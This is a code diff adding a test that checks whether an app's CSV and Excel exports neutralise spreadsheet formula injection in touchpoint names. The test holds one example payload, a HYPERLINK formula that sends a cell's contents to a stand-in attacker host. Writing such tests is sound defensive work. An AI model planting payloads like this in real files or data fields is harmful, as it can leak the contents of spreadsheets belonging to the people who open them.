@@ -104,3 +104,18 @@ def test_retention_confidence_is_checked(api):
     bad = api.get("/insights/retention", confidence="0.5", **PERIOD)
     assert bad.status_code == 422 and "confidence" in bad.json()["fields"]
     assert api.get("/insights/retention", format="xlsx", **PERIOD).status_code == 200
+
+
+def test_a_name_that_looks_like_a_formula_is_exported_as_text(api):
+    from amends.journeys.models import Touchpoint
+
+    evil = '=HYPERLINK("http://attacker.example/?x="&A1,"点此查看")'
+    tp = Touchpoint.objects.get(code="auto_claim.payment")
+    tp.names = {"zh-hans": evil, "zh-hant": evil, "en": evil}
+    tp.save()
+    text = api.get("/insights/pareto", format="csv", **PERIOD).content.decode("utf-8-sig")
+    cells = [c for row in csv.reader(io.StringIO(text)) for c in row if "HYPERLINK" in c]
+    assert cells and all(c.startswith("'" + evil) for c in cells)
+    book = load_workbook(io.BytesIO(api.get("/insights/pareto", format="xlsx", **PERIOD).content))
+    found = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if "HYPERLINK" in str(c.value)]
+    assert found and all(c.data_type == "s" and c.value.startswith(evil) for c in found)
